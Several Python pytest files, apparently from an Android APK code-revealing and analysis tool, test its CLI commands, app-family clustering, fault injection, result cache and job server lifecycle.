    def test_json_output(self, tmp_path, capsys):
        assert main(["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                     "--workers", "2", "--json",
                     "--cache-dir", str(tmp_path)]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["corpus"] == "fdroid"
        assert payload["summary"]["total"] == 1
        assert payload["outcomes"][0]["status"] == "ok"
        assert "cache_hit_rate" in payload["summary"]


class TestReassembleCommand:
    def _saved_archive(self, tmp_path, package="cli.reasm"):
        from repro.core import CollectStage
        from tests.conftest import build_simple_apk

        target = str(tmp_path / "archive")
        CollectStage().run(build_simple_apk(package)).archive.save(target)
        return target

    def test_reassemble_emits_valid_dex(self, tmp_path, capsys):
        from repro.dex import assert_valid, read_dex

        archive = self._saved_archive(tmp_path)
        out = str(tmp_path / "revealed.dex")
        assert main(["reassemble", archive, "--out", out]) == 0
        with open(out, "rb") as fh:
            assert_valid(read_dex(fh.read()))
        printed = capsys.readouterr().out
        assert "reassembled" in printed and "reassemble=" in printed

    def test_default_out_lands_in_archive_dir(self, tmp_path, capsys):
        import os

        archive = self._saved_archive(tmp_path, "cli.reasm.dflt")
        assert main(["reassemble", archive]) == 0
        assert os.path.exists(os.path.join(archive, "reassembled.dex"))

    def test_json_summary(self, tmp_path, capsys):
        archive = self._saved_archive(tmp_path, "cli.reasm.json")
        out = str(tmp_path / "r.dex")
        assert main(["reassemble", archive, "--out", out, "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["out"] == out
        assert payload["classes"] >= 1
        assert set(payload["stage_timings"]) == {"reassemble", "verify"}

    def test_missing_archive_is_exit_2(self, tmp_path, capsys):
        assert main(["reassemble", str(tmp_path / "nope")]) == 2
        assert "cannot read archive" in capsys.readouterr().err

    def test_unwritable_out_is_exit_2(self, tmp_path, capsys):
        archive = self._saved_archive(tmp_path, "cli.reasm.ro")
        out = str(tmp_path / "no" / "such" / "dir" / "r.dex")
        assert main(["reassemble", archive, "--out", out]) == 2
        assert "cannot write DEX" in capsys.readouterr().err


class TestReassembleRobustness:
    """Bad archives exit non-zero with a one-line error, no traceback."""

    def _fill(self, directory, payload: bytes):
        from repro.core.collection_files import ALL_FILES

        directory.mkdir(exist_ok=True)
        for name in ALL_FILES:
            (directory / name).write_bytes(payload)
        return str(directory)

    def test_binary_garbage_is_exit_2_one_line(self, tmp_path, capsys):
        archive = self._fill(tmp_path / "bin", b"\xff\xfe\x00bad")
        assert main(["reassemble", archive]) == 2
        err = capsys.readouterr().err
        assert "corrupt archive" in err
        assert len(err.strip().splitlines()) == 1

    def test_invalid_json_is_exit_1_one_line(self, tmp_path, capsys):
        archive = self._fill(tmp_path / "txt", b"not json {{")
        assert main(["reassemble", archive]) == 1
        err = capsys.readouterr().err
        assert "reassembly failed" in err
        assert len(err.strip().splitlines()) == 1

    def test_archive_path_that_is_a_file_is_exit_2(self, tmp_path, capsys):
        target = tmp_path / "file.json"
        target.write_text("x")
        assert main(["reassemble", str(target)]) == 2
        assert "cannot read archive" in capsys.readouterr().err


class TestExplorationFlags:
    def test_reveal_batch_accepts_scheduler_knobs(self, capsys):
        args = ["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                "--force-execution", "--strategy", "rarity-first",
                "--max-paths", "5", "--explore-workers", "2", "--json"]
        assert main(args) == 0
        payload = json.loads(capsys.readouterr().out)
        exploration = payload["outcomes"][0]["exploration"]
        assert exploration["strategy"] == "rarity-first"
        assert exploration["paths_explored"] <= 5
        assert payload["summary"]["exploration"]["apps_explored"] == 1
