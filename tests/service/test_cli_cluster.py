"""The ``cluster`` CLI group: build / label / neighbors / stats + guards."""

import json
import os

from repro.cluster.store import CLUSTER_FORMAT_VERSION
from repro.core import CollectStage, RevealConfig
from repro.dex import assemble
from repro.runtime import Apk
from repro.service.cli import main

_SMALI = """
.class public {cls}
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    const/16 v1, 9
    :loop
    if-ge v0, v1, :done
    mul-int v2, v0, v0
    add-int/lit8 v0, v0, 1
    goto :loop
    :done
    return-void
.end method
"""


def _archive_dir(tmp_path, package, main_cls, name=None) -> str:
    apk = Apk(package, main_cls, [assemble(_SMALI.format(cls=main_cls))])
    result = CollectStage(RevealConfig()).run(apk)
    directory = str(tmp_path / (name or package))
    result.archive.save(directory)
    return directory


def _built_cluster(tmp_path):
    """An index of two kin apps absorbed into a fresh cluster store."""
    index_dir = str(tmp_path / "idx")
    for package, cls in (("kin.a", "Lk/A;"), ("kin.b", "Lk/B;")):
        archive = _archive_dir(tmp_path, package, cls)
        assert main(["index", "build", "--index-dir", index_dir,
                     "--app-id", package, archive]) == 0
    cluster_dir = str(tmp_path / "fam")
    assert main(["cluster", "build", "--index-dir", index_dir,
                 "--cluster-dir", cluster_dir]) == 0
    return index_dir, cluster_dir


class TestClusterGuards:
    def test_stats_on_missing_store_exits_two(self, tmp_path, capsys):
        path = str(tmp_path / "nowhere")
        assert main(["cluster", "stats", "--cluster-dir", path]) == 2
        captured = capsys.readouterr()
        assert "no cluster store at" in captured.err
        assert len(captured.err.strip().splitlines()) == 1
        assert not os.path.exists(path)  # read-only commands never create

    def test_neighbors_on_missing_store_exits_two(self, tmp_path, capsys):
        assert main(["cluster", "neighbors",
                     "--cluster-dir", str(tmp_path / "nope"),
                     "--digest", "0" * 70]) == 2
        assert "no cluster store at" in capsys.readouterr().err

    def test_label_on_missing_store_exits_two(self, tmp_path, capsys):
        assert main(["cluster", "label",
                     "--cluster-dir", str(tmp_path / "nope"),
                     str(tmp_path / "archive")]) == 2
        assert "no cluster store at" in capsys.readouterr().err

    def test_missing_subcommand_exits_two(self, capsys):
        assert main(["cluster"]) == 2
        assert "usage" in capsys.readouterr().err

    def test_foreign_version_exits_two(self, tmp_path, capsys):
        root = tmp_path / "fam"
        root.mkdir()
        (root / "cluster_meta.json").write_text(
            json.dumps({"version": CLUSTER_FORMAT_VERSION + 1}))
        assert main(["cluster", "stats", "--cluster-dir", str(root)]) == 2
        captured = capsys.readouterr()
        assert "format version" in captured.err
        assert len(captured.err.strip().splitlines()) == 1

    def test_non_store_directory_exits_two(self, tmp_path, capsys):
        # A directory that exists but holds no cluster_meta.json is not
        # silently adopted by read-only commands.
        root = tmp_path / "plain"
        root.mkdir()
        (root / "some.txt").write_text("hello")
        assert main(["cluster", "stats", "--cluster-dir", str(root)]) == 2
        assert "no cluster store at" in capsys.readouterr().err

    def test_build_on_missing_index_exits_two(self, tmp_path, capsys):
        assert main(["cluster", "build",
                     "--index-dir", str(tmp_path / "no-index"),
                     "--cluster-dir", str(tmp_path / "fam")]) == 2
        assert "no corpus index at" in capsys.readouterr().err

    def test_build_with_bad_threshold_exits_two(self, tmp_path, capsys):
        index_dir = str(tmp_path / "idx")
        archive = _archive_dir(tmp_path, "kin.a", "Lk/A;")
        assert main(["index", "build", "--index-dir", index_dir,
                     archive]) == 0
        capsys.readouterr()
        assert main(["cluster", "build", "--index-dir", index_dir,
                     "--cluster-dir", str(tmp_path / "fam"),
                     "--threshold", "1.5"]) == 2
        assert "--threshold" in capsys.readouterr().err

    def test_bad_digest_exits_two(self, tmp_path, capsys):
        _, cluster_dir = _built_cluster(tmp_path)
        capsys.readouterr()
        assert main(["cluster", "neighbors", "--cluster-dir", cluster_dir,
                     "--digest", "zz"]) == 2
        assert "bad digest" in capsys.readouterr().err

    def test_label_on_missing_archive_exits_two(self, tmp_path, capsys):
        _, cluster_dir = _built_cluster(tmp_path)
        capsys.readouterr()
        assert main(["cluster", "label", "--cluster-dir", cluster_dir,
                     str(tmp_path / "no-archive")]) == 2
        assert "archive" in capsys.readouterr().err


class TestClusterBuildLabelNeighborsStats:
    def test_build_then_stats(self, tmp_path, capsys):
        _, cluster_dir = _built_cluster(tmp_path)
        out = capsys.readouterr().out
        assert "absorbed" in out
        assert "famil(ies)" in out

        assert main(["cluster", "stats", "--cluster-dir", cluster_dir,
                     "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["version"] == CLUSTER_FORMAT_VERSION
        assert stats["apps"] == 2
        assert stats["members"] >= 2
        assert stats["families"] == 1  # the two kin apps merged
        assert stats["lsh"]["items"] >= 1

    def test_label_finds_the_family(self, tmp_path, capsys):
        _, cluster_dir = _built_cluster(tmp_path)
        fresh = _archive_dir(tmp_path, "fresh.app", "Lf/App;")
        capsys.readouterr()
        assert main(["cluster", "label", "--cluster-dir", cluster_dir,
                     "--app-id", "fresh.app", "--json", fresh]) == 0
        verdict = json.loads(capsys.readouterr().out)
        assert verdict["app_id"] == "fresh.app"
        assert verdict["family"].startswith("fam-")
        assert verdict["methods_known"] >= 1
        assert verdict["nearest"][0]["kind"] == "known"
        assert verdict["nearest"][0]["app_id"] in ("kin.a", "kin.b")

    def test_label_with_index_provenance(self, tmp_path, capsys):
        index_dir, cluster_dir = _built_cluster(tmp_path)
        fresh = _archive_dir(tmp_path, "fresh.app", "Lf/App;")
        capsys.readouterr()
        assert main(["cluster", "label", "--cluster-dir", cluster_dir,
                     "--index-dir", index_dir,
                     "--app-id", "fresh.app", fresh]) == 0
        out = capsys.readouterr().out
        assert "fresh.app: fam-" in out

    def test_neighbors_ranks_by_distance(self, tmp_path, capsys):
        _, cluster_dir = _built_cluster(tmp_path)
        capsys.readouterr()
        assert main(["cluster", "stats", "--cluster-dir", cluster_dir,
                     "--json"]) == 0
        capsys.readouterr()

        # Fetch a real member digest through the neighbors JSON of an
        # exhaustive query seeded with any digest the index holds.
        from repro.cluster.store import ClusterStore
        store = ClusterStore(cluster_dir, create=False)
        digest = next(m.fuzzy for m in store.members() if m.fuzzy)
        store.close()

        assert main(["cluster", "neighbors", "--cluster-dir", cluster_dir,
                     "--digest", digest, "--json"]) == 0
        results = json.loads(capsys.readouterr().out)["results"]
        assert results
        assert results[0]["distance"] == 0  # self-match first
        distances = [row["distance"] for row in results]
        assert distances == sorted(distances)

        # The exhaustive oracle agrees with the banded default.
        assert main(["cluster", "neighbors", "--cluster-dir", cluster_dir,
                     "--digest", digest, "--exhaustive", "--json"]) == 0
        oracle = json.loads(capsys.readouterr().out)["results"]
        assert oracle == results

    def test_build_is_idempotent(self, tmp_path, capsys):
        index_dir, cluster_dir = _built_cluster(tmp_path)
        assert main(["cluster", "build", "--index-dir", index_dir,
                     "--cluster-dir", cluster_dir]) == 0
        capsys.readouterr()
        assert main(["cluster", "stats", "--cluster-dir", cluster_dir,
                     "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["apps"] == 2  # duplicates collapsed
