"""repro.faults: seeded plans, bounded rules, faultable I/O helpers."""

import json
import os

import pytest

from repro import faults
from repro.faults import (
    ALL_FAULT_KINDS,
    FAULT_CONN_RESET,
    FAULT_HTTP_TIMEOUT,
    FAULT_OS_ERROR,
    FAULT_PARTIAL_REPLACE,
    FAULT_TORN_TMP,
    FAULT_TRUNCATED_LINE,
    KNOWN_SITES,
    NETWORK_SITES,
    SITE_KINDS,
    STORE_SITES,
    WORKER_SITES,
    FaultInjected,
    FaultPlan,
    FaultRule,
    InjectedConnectionReset,
    InjectedTimeout,
)


@pytest.fixture(autouse=True)
def _always_disarmed():
    # Any test that arms a plan must not leak it into the next test.
    yield
    faults.disarm()


class TestPlan:
    def test_seeded_plans_are_deterministic(self):
        a = FaultPlan.seeded(42, faults=6)
        b = FaultPlan.seeded(42, faults=6)
        assert [r.to_dict() for r in a.rules] == \
               [r.to_dict() for r in b.rules]
        assert [r.to_dict() for r in FaultPlan.seeded(43, faults=6).rules] \
               != [r.to_dict() for r in a.rules]

    def test_seeded_kinds_are_valid_for_their_sites(self):
        for seed in range(20):
            for rule in FaultPlan.seeded(seed, faults=8).rules:
                assert rule.kind in SITE_KINDS[rule.site]

    def test_rule_fires_inside_its_window_only(self):
        plan = FaultPlan([FaultRule("s", FAULT_OS_ERROR,
                                    times=2, after=1)])
        decisions = [plan.decide("s") for _ in range(5)]
        assert [d is not None for d in decisions] == \
               [False, True, True, False, False]
        assert plan.exhausted()

    def test_rule_counters_advance_independently(self):
        plan = FaultPlan([
            FaultRule("s", FAULT_OS_ERROR, after=0),
            FaultRule("s", FAULT_TORN_TMP, after=1),
        ])
        first = plan.decide("s")
        second = plan.decide("s")
        assert first.kind == FAULT_OS_ERROR
        # Both counters advanced on hit 0, so rule 2 fires on hit 1.
        assert second.kind == FAULT_TORN_TMP

    def test_fnmatch_site_patterns(self):
        plan = FaultPlan([FaultRule("jobstore.*", FAULT_OS_ERROR,
                                    times=3)])
        assert plan.decide("jobstore.record.write") is not None
        assert plan.decide("jobstore.events.append") is not None
        assert plan.decide("artifacts.put") is None

    def test_plan_round_trips_through_dict(self):
        plan = FaultPlan.seeded(7, faults=5, name="ship-me")
        clone = FaultPlan.from_dict(plan.to_dict())
        assert clone.seed == 7
        assert clone.name == "ship-me"
        assert [r.to_dict() for r in clone.rules] == \
               [r.to_dict() for r in plan.rules]

    def test_describe_names_seed_and_rules(self):
        plan = FaultPlan.seeded(9, faults=2, name="chaos-9")
        text = plan.describe()
        assert "chaos-9" in text and "seed=9" in text
        for rule in plan.rules:
            assert rule.site in text

    def test_site_groups_cover_known_sites(self):
        grouped = set(STORE_SITES) | set(NETWORK_SITES) | set(WORKER_SITES)
        assert grouped == set(KNOWN_SITES)
        # Every declared kind is reachable from at least one site.
        assert set(ALL_FAULT_KINDS) == {
            k for kinds in SITE_KINDS.values() for k in kinds
        }


class TestArming:
    def test_unarmed_check_is_a_noop(self):
        assert faults.active() is None
        faults.check("jobstore.record.write")  # must not raise

    def test_armed_context_restores_disarmed(self):
        plan = FaultPlan([FaultRule("x", FAULT_OS_ERROR)])
        with faults.armed(plan):
            assert faults.active() is plan
            with pytest.raises(FaultInjected):
                faults.check("x")
        assert faults.active() is None

    def test_fired_log_records_what_happened(self):
        plan = FaultPlan([FaultRule("x", FAULT_OS_ERROR)])
        with faults.armed(plan):
            with pytest.raises(FaultInjected):
                faults.check("x")
        assert plan.fired == [{"site": "x", "kind": FAULT_OS_ERROR,
                               "hit": 0}]

    def test_typed_exceptions_match_production_isinstance_checks(self):
        plan = FaultPlan([
            FaultRule("t", FAULT_HTTP_TIMEOUT),
            FaultRule("r", FAULT_CONN_RESET),
        ])
        with faults.armed(plan):
            with pytest.raises(TimeoutError) as t:
                faults.check("t")
            with pytest.raises(ConnectionResetError) as r:
                faults.check("r")
        assert isinstance(t.value, InjectedTimeout)
        assert isinstance(t.value, OSError)
        assert isinstance(r.value, InjectedConnectionReset)


class TestFaultableWrites:
    def test_atomic_write_is_atomic_without_faults(self, tmp_path):
        path = tmp_path / "out.json"
        faults.atomic_write_json(path, {"ok": 1})
        assert json.loads(path.read_text()) == {"ok": 1}
        assert not os.path.exists(str(path) + ".tmp")

    def test_torn_tmp_leaves_half_written_temp(self, tmp_path):
        path = tmp_path / "out.bin"
        plan = FaultPlan([FaultRule("site", FAULT_TORN_TMP)])
        with faults.armed(plan):
            with pytest.raises(FaultInjected):
                faults.atomic_write_bytes(path, b"x" * 100, site="site")
        assert not path.exists()
        torn = tmp_path / "out.bin.tmp"
        assert torn.exists() and 0 < torn.stat().st_size < 100

    def test_partial_replace_keeps_old_content_visible(self, tmp_path):
        path = tmp_path / "out.txt"
        path.write_text("old")
        plan = FaultPlan([FaultRule("site", FAULT_PARTIAL_REPLACE)])
        with faults.armed(plan):
            with pytest.raises(FaultInjected):
                faults.atomic_write_text(path, "new", site="site")
        # The replace never ran: readers still see the old bytes, the
        # fully-written temp file is stranded debris.
        assert path.read_text() == "old"
        assert (tmp_path / "out.txt.tmp").read_text() == "new"

    def test_truncated_line_flushes_a_torn_prefix(self, tmp_path):
        path = tmp_path / "log.jsonl"
        line = json.dumps({"k": "v" * 20}) + "\n"
        plan = FaultPlan([FaultRule("site", FAULT_TRUNCATED_LINE)])
        with faults.armed(plan):
            with open(path, "a", encoding="utf-8") as fh:
                with pytest.raises(FaultInjected):
                    faults.append_line(fh, line, site="site")
        tail = path.read_text()
        assert 0 < len(tail) < len(line)
        with pytest.raises(ValueError):
            json.loads(tail)

    def test_exhausted_rule_lets_the_retry_through(self, tmp_path):
        path = tmp_path / "out.txt"
        plan = FaultPlan([FaultRule("site", FAULT_TORN_TMP, times=1)])
        with faults.armed(plan):
            with pytest.raises(FaultInjected):
                faults.atomic_write_text(path, "payload", site="site")
            faults.atomic_write_text(path, "payload", site="site")
        assert path.read_text() == "payload"
        assert plan.exhausted()
