"""Content-addressed cache: key construction and store behavior."""

import json
import os

import pytest

from repro.core import DexLego
from repro.dex import assemble
from repro.service import (
    STATUS_ERROR,
    STATUS_OK,
    RevealCache,
    RevealOutcome,
    apk_content_key,
    pipeline_config_key,
    reveal_cache_key,
)

from tests.conftest import build_simple_apk


def _outcome(app_id="app", status=STATUS_OK, apk=None, **kwargs):
    apk_bytes = (apk or build_simple_apk()).to_bytes()
    return RevealOutcome(app_id=app_id, status=status,
                         revealed_apk_bytes=apk_bytes, **kwargs)


class TestKeys:
    def test_same_content_same_key(self):
        a = build_simple_apk("c.k.same")
        b = build_simple_apk("c.k.same")
        assert apk_content_key(a) == apk_content_key(b)

    def test_package_changes_key(self):
        assert apk_content_key(build_simple_apk("c.k.one")) != \
            apk_content_key(build_simple_apk("c.k.two"))

    def test_dex_bytes_change_key(self):
        apk = build_simple_apk("c.k.dex")
        other = build_simple_apk("c.k.dex")
        other.dex_files = [assemble("""
.class public Lcom/fix/Simple;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 2
    return-void
.end method
""")]
        assert apk_content_key(apk) != apk_content_key(other)

    def test_asset_changes_key(self):
        apk = build_simple_apk("c.k.asset")
        other = build_simple_apk("c.k.asset")
        other.assets["payload.bin"] = b"\x00\x01"
        assert apk_content_key(apk) != apk_content_key(other)

    def test_config_changes_key(self):
        apk = build_simple_apk("c.k.cfg")
        default = reveal_cache_key(apk, DexLego())
        assert default != reveal_cache_key(apk, DexLego(run_budget=10))
        assert default != reveal_cache_key(
            apk, DexLego(use_force_execution=True))
        assert default == reveal_cache_key(apk, DexLego())

    def test_archive_dir_is_not_identity(self):
        # Where collection files land on disk doesn't change the result.
        apk = build_simple_apk("c.k.dir")
        assert reveal_cache_key(apk, DexLego()) == \
            reveal_cache_key(apk, DexLego(archive_dir="/tmp/elsewhere"))

    def test_device_state_changes_key(self):
        # Two profiles sharing a *name* must not share reveal results:
        # device state (IMEI, location, emulator-ness) feeds sources.
        import dataclasses

        from repro.runtime import NEXUS_5X

        custom = dataclasses.replace(NEXUS_5X, imei="111111111111111")
        apk = build_simple_apk("c.k.dev")
        assert reveal_cache_key(apk, DexLego()) != \
            reveal_cache_key(apk, DexLego(device=custom))

    def test_salt_changes_key(self):
        apk = build_simple_apk("c.k.salt")
        lego = DexLego()
        assert reveal_cache_key(apk, lego) != \
            reveal_cache_key(apk, lego, salt="sapienz")

    def test_config_key_is_stable_text(self):
        key = pipeline_config_key(DexLego())
        assert key == pipeline_config_key(DexLego())
        assert len(key) == 64

    def test_accepts_reveal_config_directly(self):
        from repro.core import RevealConfig

        apk = build_simple_apk("c.k.cfgobj")
        assert reveal_cache_key(apk, RevealConfig()) == \
            reveal_cache_key(apk, DexLego())
        assert pipeline_config_key(RevealConfig()) == \
            pipeline_config_key(DexLego())

    def test_config_hash_is_the_sole_config_input(self):
        # Two configs with equal config_hash() produce equal cache keys,
        # whatever else differs (archive_dir is not identity).
        from repro.core import RevealConfig

        apk = build_simple_apk("c.k.sole")
        a = RevealConfig()
        b = RevealConfig(archive_dir="/tmp/elsewhere")
        assert a.config_hash() == b.config_hash()
        assert reveal_cache_key(apk, a) == reveal_cache_key(apk, b)

    def test_rejects_non_config_objects(self):
        with pytest.raises(TypeError):
            reveal_cache_key(build_simple_apk("c.k.bad"), object())


class TestMemoryBackend:
    def test_round_trip(self):
        cache = RevealCache()
        outcome = _outcome("mem.app", dump_size_bytes=123,
                           collector_stats={"classes_collected": 1})
        assert cache.put("k1", outcome)
        loaded = cache.get("k1")
        assert loaded is not None
        assert loaded.cache_hit
        assert loaded.app_id == "mem.app"
        assert loaded.dump_size_bytes == 123
        assert loaded.collector_stats == {"classes_collected": 1}
        assert loaded.revealed_apk.package == build_simple_apk().package

    def test_miss(self):
        assert RevealCache().get("nope") is None

    def test_non_cacheable_status_rejected(self):
        cache = RevealCache()
        assert not cache.put("k", _outcome(status=STATUS_ERROR))
        assert cache.get("k") is None
        assert len(cache) == 0


class TestGetOrCompute:
    def test_miss_computes_and_stores(self):
        cache = RevealCache()
        calls = []

        def compute():
            calls.append(1)
            return _outcome("goc")

        outcome, hit = cache.get_or_compute("k", compute)
        assert not hit and outcome.app_id == "goc"
        outcome, hit = cache.get_or_compute("k", compute)
        assert hit and outcome.cache_hit
        assert len(calls) == 1

    def test_empty_key_always_computes(self):
        cache = RevealCache()
        calls = []

        def compute():
            calls.append(1)
            return _outcome()

        for _ in range(2):
            _, hit = cache.get_or_compute("", compute)
            assert not hit
        assert len(calls) == 2

    def test_uncacheable_result_not_replicated_to_waiters(self):
        # The leader's error outcome is not admitted; a later caller
        # recomputes instead of inheriting the transient failure.
        cache = RevealCache()
        statuses = iter([STATUS_ERROR, STATUS_OK])
        calls = []

        def compute():
            calls.append(1)
            return _outcome(status=next(statuses))

        first, hit1 = cache.get_or_compute("k", compute)
        second, hit2 = cache.get_or_compute("k", compute)
        assert first.status == STATUS_ERROR and not hit1
        assert second.status == STATUS_OK and not hit2
        assert len(calls) == 2

    def test_concurrent_misses_run_one_reveal(self):
        import threading
        import time

        cache = RevealCache()
        calls = []
        barrier = threading.Barrier(8)
        results = []

        def compute():
            calls.append(1)
            time.sleep(0.02)  # widen the window concurrent misses race in
            return _outcome("leader")

        def worker():
            barrier.wait()
            results.append(cache.get_or_compute("hot", compute))

        threads = [threading.Thread(target=worker) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(calls) == 1  # one reveal, seven waiters
        assert len(results) == 8
        assert sum(1 for _, hit in results if not hit) == 1
        assert all(outcome.status == STATUS_OK for outcome, _ in results)

    def test_concurrent_puts_do_not_corrupt_memory_store(self):
        import threading

        cache = RevealCache()

        def hammer(prefix):
            for i in range(50):
                cache.put(f"{prefix}-{i}", _outcome(f"{prefix}-{i}"))
                assert cache.get(f"{prefix}-{i}") is not None

        threads = [threading.Thread(target=hammer, args=(t,))
                   for t in ("a", "b", "c", "d")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(cache) == 200


class TestDiskBackend:
    def test_round_trip_with_apk_sidecar(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        apk = build_simple_apk("disk.app")
        assert cache.put("deadbeef", _outcome("disk.app", apk=apk))
        assert os.path.exists(tmp_path / "deadbeef.json")
        assert os.path.exists(tmp_path / "deadbeef.apk")
        # A *fresh* cache object sees the record (persistence).
        loaded = RevealCache(str(tmp_path)).get("deadbeef")
        assert loaded is not None and loaded.cache_hit
        assert loaded.revealed_apk.package == "disk.app"

    def test_malformed_entry_is_a_miss(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        (tmp_path / "bad.json").write_text("{not json")
        assert cache.get("bad") is None

    def test_version_mismatch_is_a_miss(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        cache.put("v", _outcome())
        path = tmp_path / "v.json"
        record = json.loads(path.read_text())
        record["version"] = 999
        path.write_text(json.dumps(record))
        assert cache.get("v") is None

    def test_missing_sidecar_is_a_miss(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        cache.put("s", _outcome())
        os.unlink(tmp_path / "s.apk")
        assert cache.get("s") is None

    def test_len_counts_records(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        cache.put("a", _outcome("a"))
        cache.put("b", _outcome("b"))
        assert len(cache) == 2
        assert "a" in cache and "c" not in cache

    def test_index_stats_round_trip(self, tmp_path):
        stats = {"bodies_emitted": 3, "bodies_replayed": 9,
                 "corpus_known": 9, "corpus_new": 3}
        cache = RevealCache(str(tmp_path))
        cache.put("idx", _outcome("idx.app", index_stats=stats))
        loaded = RevealCache(str(tmp_path)).get("idx")
        assert loaded is not None
        assert loaded.index_stats == stats


class TestDiskCorruptionTolerance:
    """Corrupt or truncated on-disk entries degrade to misses.

    A batch sharing its cache directory with a crashed or concurrent
    writer must never die on a half-written record: every corruption
    flavour is a miss (the reveal recomputes), reported through one
    warning per cache instance rather than one per probe.
    """

    def _corrupt_entries(self, tmp_path):
        (tmp_path / "truncated.json").write_text('{"version": 1, "app_')
        (tmp_path / "notdict.json").write_text('["a", "list"]')
        (tmp_path / "barekeys.json").write_text('{"version": 1}')
        return ["truncated", "notdict", "barekeys"]

    def test_every_corruption_flavour_is_a_miss(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        for key in self._corrupt_entries(tmp_path):
            assert cache.get(key) is None, key

    def test_corrupt_entries_do_not_hide_good_ones(self, tmp_path):
        cache = RevealCache(str(tmp_path))
        cache.put("good", _outcome("good.app"))
        self._corrupt_entries(tmp_path)
        assert cache.get("truncated") is None
        loaded = cache.get("good")
        assert loaded is not None and loaded.app_id == "good.app"

    def test_warns_once_per_instance(self, tmp_path, caplog):
        import logging

        cache = RevealCache(str(tmp_path))
        keys = self._corrupt_entries(tmp_path)
        with caplog.at_level(logging.WARNING, logger="repro.service.cache"):
            for key in keys + keys:  # six corrupt probes
                assert cache.get(key) is None
        warnings = [r for r in caplog.records
                    if r.name == "repro.service.cache"]
        assert len(warnings) == 1
        assert "corrupt" in warnings[0].getMessage()

    def test_missing_file_is_a_silent_miss(self, tmp_path, caplog):
        import logging

        cache = RevealCache(str(tmp_path))
        with caplog.at_level(logging.WARNING, logger="repro.service.cache"):
            assert cache.get("never-written") is None
        assert not [r for r in caplog.records
                    if r.name == "repro.service.cache"]
