"""RevealServer: the job lifecycle, priorities, events, persistence."""

import threading

import pytest

from repro.service import (
    EVENT_CACHE_HIT,
    EVENT_STAGE,
    EVENT_WAVE,
    PRIORITY_HIGH,
    PRIORITY_LOW,
    BatchRevealService,
    JobState,
    JobStore,
    QueueFull,
    RevealJob,
    RevealServer,
)

from tests.conftest import build_simple_apk


def _job(app_id, package=None):
    return RevealJob(app_id, build_simple_apk(package or f"srv.{app_id}"))


def _lifecycle_kinds(server, job_id):
    return [e.kind for e in server.bus.events_for(job_id)]


class TestSubmitAwait:
    def test_submit_returns_immediately_and_resolves(self):
        with RevealServer(workers=2) as server:
            handle = server.submit(_job("one"))
            outcome = handle.wait(timeout=30)
        assert outcome is not None and outcome.status == "ok"
        assert handle.state == JobState.DONE
        assert handle.queue_wait_s >= 0
        assert handle.run_s > 0
        assert outcome.queue_wait_s == pytest.approx(handle.queue_wait_s)

    def test_accepts_bare_apks(self):
        with RevealServer(workers=1) as server:
            handle = server.submit(build_simple_apk("srv.bare"))
            assert handle.app_id == "srv.bare"
            assert handle.wait(timeout=30).status == "ok"

    def test_poll_and_await_job(self):
        with RevealServer(workers=1) as server:
            handle = server.submit(_job("polled"))
            assert server.poll(handle.job_id) is handle
            outcome = server.await_job(handle.job_id, timeout=30)
            assert outcome.status == "ok"
            with pytest.raises(KeyError):
                server.poll("no-such-job")

    def test_await_all_in_submission_order(self):
        with RevealServer(workers=4) as server:
            handles = server.submit_all([_job(f"j{i}") for i in range(6)])
            outcomes = server.await_all(handles)
        assert [o.app_id for o in outcomes] == [f"j{i}" for i in range(6)]

    def test_failed_job_resolves_failed_state(self):
        def bad_drive(driver):
            raise RuntimeError("fuzzer exploded")

        with RevealServer(workers=1) as server:
            handle = server.submit(RevealJob(
                "bad", build_simple_apk("srv.bad"), drive=bad_drive))
            outcome = handle.wait(timeout=30)
        assert handle.state == JobState.FAILED
        assert outcome.status == "error"
        assert "fuzzer exploded" in handle.error
        assert _lifecycle_kinds(server, handle.job_id)[-1] == "failed"

    def test_duplicate_job_id_rejected(self):
        with RevealServer(workers=1) as server:
            server.submit(_job("dup"), job_id="fixed")
            with pytest.raises(ValueError, match="duplicate"):
                server.submit(_job("dup2"), job_id="fixed")

    def test_submit_after_close_raises(self):
        server = RevealServer(workers=1)
        server.close()
        with pytest.raises(RuntimeError, match="closed"):
            server.submit(_job("late"))


class TestPriorities:
    def test_high_priority_completes_first(self):
        # One worker, paused queue: whatever the submission order, the
        # high lane must drain before normal, normal before low.
        server = RevealServer(workers=1, autostart=False)
        lanes = {
            "low": server.submit(_job("low"), priority="low"),
            "normal": server.submit(_job("normal")),
            "high": server.submit(_job("high"), priority=PRIORITY_HIGH),
        }
        server.start()
        server.close()
        finished = sorted(lanes, key=lambda name: lanes[name].finished_at)
        assert finished == ["high", "normal", "low"]

    def test_fifo_within_a_lane(self):
        server = RevealServer(workers=1, autostart=False)
        handles = [server.submit(_job(f"fifo{i}")) for i in range(4)]
        server.start()
        server.close()
        starts = [h.started_at for h in handles]
        assert starts == sorted(starts)

    def test_bad_priority_rejected(self):
        with RevealServer(workers=1) as server:
            with pytest.raises(ValueError):
                server.submit(_job("x"), priority="urgent")
            with pytest.raises(ValueError):
                server.submit(_job("y"), priority=99)


class TestBackpressure:
    def test_queue_full_raises(self):
        server = RevealServer(workers=1, max_pending=2, autostart=False)
        server.submit(_job("a"))
        server.submit(_job("b"))
        with pytest.raises(QueueFull):
            server.submit(_job("c"))
        server.start()
        server.close()

    def test_blocking_submit_waits_for_space(self):
        server = RevealServer(workers=1, max_pending=1, autostart=False)
        server.submit(_job("first"))
        results = {}

        def blocked_submit():
            server.start()
            results["handle"] = server.submit(_job("second"), block=True,
                                              timeout=30)

        thread = threading.Thread(target=blocked_submit)
        thread.start()
        thread.join(timeout=30)
        assert not thread.is_alive()
        server.close()
        assert results["handle"].state == JobState.DONE

